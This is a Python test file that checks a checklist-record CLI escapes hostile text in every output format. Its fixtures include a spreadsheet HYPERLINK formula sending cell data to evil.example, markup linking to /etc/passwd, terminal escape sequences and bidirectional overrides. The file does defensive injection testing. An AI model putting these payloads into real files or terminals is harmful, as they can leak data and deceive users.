"""One door to every output: text from a record reaches no output raw.

A record holding one hostile string in every field it has (title, owner, reference, route
version, timestamps, names, reasons, history and retired ids and values) is shown by every
command in every format. Nothing may steer the terminal (control, bidirectional or line
separator characters), be read as Rich markup, open a spreadsheet formula, leave the JSON
invalid, or change the Markdown around it; and no command may crash.

The property-based test feeds generated text through the same doors. It runs
`JOURNEY_EXAMPLES` examples (default 20, quick enough for every run); the slow suite sets
`JOURNEY_SLOW=1` for 10,000: `JOURNEY_SLOW=1 pytest tests/robustness/test_outputs.py`.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import journey.records.opening
from conftest import BASE, WALK, Run, ticking
from journey.records.checklist import render
from journey.records.format import Change, Deviation, Entry
from journey.routes.loader import load_route
from journey.text import CONTROL, csv_cell
from journey.walk.drive import apply_given
from journey.walk.engine import Walk, new_record

pytestmark = pytest.mark.usefixtures("walk_route")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")[/x][link=file:///etc/passwd]link[/link]'
    "\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\x85\u2028\n<!--\r\t|`*_#<b>"
)
# What a terminal, a pager or a spreadsheet would act on.
RAW = re.compile(CONTROL.pattern.replace("\\x0b", "\\x0d"))  # the CONTROL set, tab and LF aside
FORMULA = ("=", "+", "-", "@", "\t", "\r")
COMMANDS = {
    "status": ("status", "rec.md"),
    "status --json": ("status", "rec.md", "--json"),
    "verify": ("verify", "rec.md"),
    "report table": ("report", "."),
    "report csv": ("report", ".", "--format", "csv"),
    "report json": ("report", ".", "--format", "json"),
    "report markdown": ("report", ".", "--format", "markdown"),
    "report html": ("report", ".", "--format", "html"),
    "resume": ("resume", "rec.md", "--no-input"),
}


def hostile_record(
    text: str,
    path: Path = Path("rec.md"),
    *,
    changed_route: bool = True,
    everywhere: bool = True,
    times: bool = True,
) -> str:
    """A complete walk.yaml record with `text` in every field a record holds (or only in its
    title, owner and reference; with `times` false, every field but the timestamps), written
    to `path`; with `changed_route`, its route digest is stale, so `resume` names the version."""
    journey.records.opening._routes.cache_clear()
    loaded = load_route(WALK)
    at = text if everywhere and times else "2026-11-23T09:00:00Z"
    rec = new_record(loaded, title=text, owner=text, reference=text, now=at)
    walk = Walk(loaded, rec, user="Ann Buyer", clock=ticking())
    apply_given(walk, dict(BASE))
    walk.finish()
    if not everywhere:
        if changed_route:
            rec.route_version, rec.route_digest = text, "sha256:" + "0" * 64
        path.write_text(render(walk), encoding="utf-8")
        return render(walk)
    rec.route_version = text
    rec.updated = at
    if changed_route:
        rec.route_digest = "sha256:" + "0" * 64
    for entry in rec.answers.values():
        entry.at, entry.by = at, text
    rec.deviations["notes"] = Deviation("skip", text, at, text)
    rec.history.append(Change(text, text, text, at, text, text))
    rec.retired[text] = Entry(text, at, text)
    written = render(walk)
    path.write_text(written, encoding="utf-8")
    return written


def assert_safe(name: str, code: int, out: str, err: str) -> None:
    """Nothing raw on either stream, no crash, no markup read, each format well formed."""
    assert "internal error" not in out + err and "Traceback" not in out + err, (name, err)
    assert code in (0, 1, 2), (name, code, err)
    assert not RAW.search(out), (name, RAW.search(out), out[-400:])
    assert not RAW.search(err), (name, err[-400:])
    assert "\x1b]8;" not in out + err  # a terminal hyperlink made from [link=...]
    if name.endswith("json") and code == 0:
        json.loads(out)
    if name == "report html":
        assert "<!--" not in out and "<b>" not in out and "<i>" not in out
    if name == "report csv":
        for row in list(csv.reader(io.StringIO(out)))[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA), (cell, row)


@pytest.mark.parametrize("times", [True, False], ids=["with-times", "but-times"])
@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_a_hostile_string_in_every_record_field_reaches_no_output_raw(
    run: Run, name: str, times: bool
) -> None:
    hostile_record(HOSTILE, times=times)
    code, out, err = run(*COMMANDS[name])
    assert_safe(name, code, out, err)


def test_rich_markup_from_a_record_is_shown_literally_by_resume(run: Run) -> None:
    hostile_record("[/x][link=file:///etc/passwd]1.0.0[/link]", everywhere=False)
    code, out, err = run("resume", "rec.md", "--no-input")
    assert "internal error" not in err
    assert "[link=file:///etc/passwd]1.0.0[/link]" in out


def test_status_shows_a_records_updated_time_with_visible_escapes(run: Run) -> None:
    hostile_record("\x1b]0;PWNED-TITLE\x07\x1b[2J", changed_route=False)
    code, out, err = run("status", "rec.md")  # shown, or refused as damaged: escaped either way
    assert not RAW.search(out + err)
    assert "\\x1b]0;PWNED-TITLE\\x07\\x1b[2J" in out + err


def test_the_status_view_shows_every_field_on_its_line_with_visible_escapes() -> None:
    from journey.cli.console import console
    from journey.cli.views import status_view

    def shown(text: str) -> str:
        info: dict[str, Any] = dict.fromkeys(
            ("title", "route", "route_version", "owner", "status", "stage"), text
        )
        info |= {"done": 1, "total": 2, "percent": 50, "required_answered": 1, "updated": text}
        info |= {"required_outstanding": [text], "deadlines": []}
        info["deviations"] = [{"checkpoint": text, "kind": text, "reason": text}]
        screen = console()
        screen.width = 5000
        with screen.capture() as captured:
            screen.print(status_view(info))
        return captured.get()

    out = shown(HOSTILE)
    assert not RAW.search(out)
    assert out.count("\\x1b]0;PWNED") == 11  # every field shown...
    assert len(out.splitlines()) == len(shown("x").splitlines())  # ...and none breaks its line


def test_report_csv_neutralises_formulas_and_escapes_controls(run: Run) -> None:
    for n, text in enumerate(["=1+2", "+1", "-2+3", "@SUM(1)"]):
        hostile_record(text, Path(f"r{n}.md"), everywhere=False, changed_route=False)
    code, out, err = run("report", ".", "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(r["title"] for r in rows) == sorted(["'=1+2", "'+1", "'-2+3", "'@SUM(1)"])
    assert all(r["done"].isdigit() for r in rows)  # numbers stay numbers


def test_report_csv_escapes_controls_in_a_damaged_records_error(run: Run) -> None:
    hostile_record("a\x1b[31mb\tc\rd", changed_route=False)
    code, out, err = run("report", ".", "--format", "csv")
    assert code == 1
    assert not RAW.search(out) and "\t" not in out
    assert "a\\x1b[31mb" in out


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\\x09x"),
     ("\rx", "'\\x0dx"), ("a=b", "a=b"), ("a\nb", "a\\x0ab"), (-1, -1), (None, None)],
)  # fmt: skip
def test_a_csv_cell_is_text_a_spreadsheet_never_runs(cell: object, shown: object) -> None:
    assert csv_cell(cell) == shown


def test_report_json_escapes_bidirectional_overrides(run: Run) -> None:
    hostile_record("Chairs", Path("x\u202egnp.md"), everywhere=False, changed_route=False)
    code, out, _ = run("report", ".", "--format", "json")
    assert code == 0
    assert "\u202e" not in out and "\\u202e" in out
    assert json.loads(out)[0]["path"] == "x\u202egnp.md"


def test_a_newline_in_a_title_never_breaks_the_report_table(run: Run) -> None:
    hostile_record("Chairs\n| x | y |\nmore", everywhere=False, changed_route=False)
    hostile_record("Tables", Path("b.md"), everywhere=False, changed_route=False)
    code, out, err = run("report", ".")
    assert code == 0, err
    lines = out.splitlines()
    assert any("Chairs\\x0a| x | y |\\x0amore" in line for line in lines)
    assert not [line for line in lines if line.startswith(("| x", "more"))]  # no line broken


def test_an_html_comment_in_a_timestamp_hides_no_section_of_the_rendered_record() -> None:
    text = hostile_record("2026-11-23T10:40:00Z)\n<!--")
    html = MarkdownIt("commonmark").render(text.split("```json journey-record")[0])
    assert "<!--" not in html
    for section in ("Outstanding", "Deviations", "Changes", "Retired answers"):
        assert f"<h2>{section}" in html, section


def test_every_id_and_time_in_the_checklist_is_escaped() -> None:
    text = hostile_record("`x` <!-- [y](z)")
    html = MarkdownIt("commonmark").render(text.split("```json journey-record")[0])
    assert "<!--" not in html and "<code>x</code>" not in html and "<a href" not in html
    assert html.count("`x` &lt;!-- [y](z)") > 10  # title, names, times, ids: all shown as typed


# -- generated text ---------------------------------------------------------------------------

EXAMPLES = (
    10_000
    if os.environ.get("JOURNEY_SLOW") == "1"
    else int(os.environ.get("JOURNEY_EXAMPLES", "20"))
)
# A long run takes as long as it takes: pytest-timeout's five minutes a test (there so that
# a prompt waiting for input cannot hang CI) would stop it half way, and Hypothesis would
# call the example it stopped on flaky.
LONG_RUN = pytest.mark.timeout(0 if EXAMPLES > 100 else 300)
# Anything a string can hold, weighted towards what steers terminals, Markdown and CSV.
NASTY = st.sampled_from(
    [
        "\x1b",
        "\x1b[2J",
        "\x1b]8;;x\x07",
        "\x9b",
        "\x85",
        "\u2028",
        "\u202e",
        "\u2066",
        "\n",
        "\r",
        "\t",
        "\x00",
        "\x7f",
        "[/x]",
        "[link=file:///etc/passwd]",
        "[bold]",
        "<!--",
        "-->",
        "`",
        "|",
        "=",
        "+",
        "-",
        "@",
        "#",
        "\\",
    ]  # fmt: skip
)
TEXT = st.lists(st.one_of(NASTY, st.text(max_size=8)), max_size=6).map("".join)


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=TEXT)
@LONG_RUN
def test_generated_text_in_every_field_reaches_no_output_raw(run: Run, text: str) -> None:
    for stale in Path().glob("*.md"):
        stale.unlink()
    for times in (True, False):  # with the text in the timestamps too, the record is damaged
        hostile_record(text, times=times)
        for name, args in COMMANDS.items():
            code, out, err = run(*args)
            assert_safe(name, code, out, err)


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=TEXT, field=st.sampled_from(["--title", "--reference", "--by", "notes", "record"]))
@LONG_RUN
def test_generated_text_given_to_start_is_refused_cleanly_or_makes_a_record_that_verifies(
    run: Run, text: str, field: str
) -> None:
    for stale in [*Path().glob("*.md"), *Path().glob(".*.lock"), *Path().glob("*.yaml")]:
        stale.unlink()
    given = dict(BASE, notes=text) if field == "notes" else dict(BASE)
    Path("answers.yaml").write_text(json.dumps(given), encoding="utf-8")
    args = ["start", "walk-test", "--record", "rec.md", "--no-input", "--answers", "answers.yaml"]
    if field == "record":
        name = "".join(c for c in text if c not in "/\x00") + ".md"
        args[args.index("rec.md")] = name
    elif field.startswith("--"):
        args += [field, text]
    code, out, err = run(*args)
    assert_safe("start", code, out, err)
    if code == 0:
        record = args[args.index("--record") + 1]
        vcode, vout, verr = run("verify", "--", record)
        assert vcode == 0, vout + verr
        assert_safe("verify", vcode, vout, verr)


def test_the_walk_panel_shows_a_route_title_with_markup_as_typed() -> None:
    from journey.cli.console import console
    from journey.cli.prompts import TerminalUI

    loaded = load_route(WALK.parent / "markup.yaml")
    rec = new_record(loaded, title="T", owner="Ann", reference="", now="2026-11-23T09:00:00Z")
    walk = Walk(loaded, rec, user="Ann", clock=ticking())
    screen = console()
    with screen.capture() as captured:
        TerminalUI(screen).step(walk, walk.places[walk.order[0]])
    assert "[red]x[/red] and [link=http://evil]y[/link]" in captured.get()


@pytest.mark.parametrize("entity", ["&#x202e;", "&#8238;", "&lt;!--", "&RightArrow;"])
def test_an_html_entity_in_a_field_is_shown_as_typed_in_rendered_markdown(entity: str) -> None:
    text = hostile_record(f"x{entity}gnp.exe", times=False, changed_route=False)
    html = MarkdownIt("commonmark").render(text.split("```json journey-record")[0])
    assert "\u202e" not in html and "<!--" not in html and "\u2192" not in html
    assert f"x{entity.replace('&', '&amp;')}gnp.exe" in html
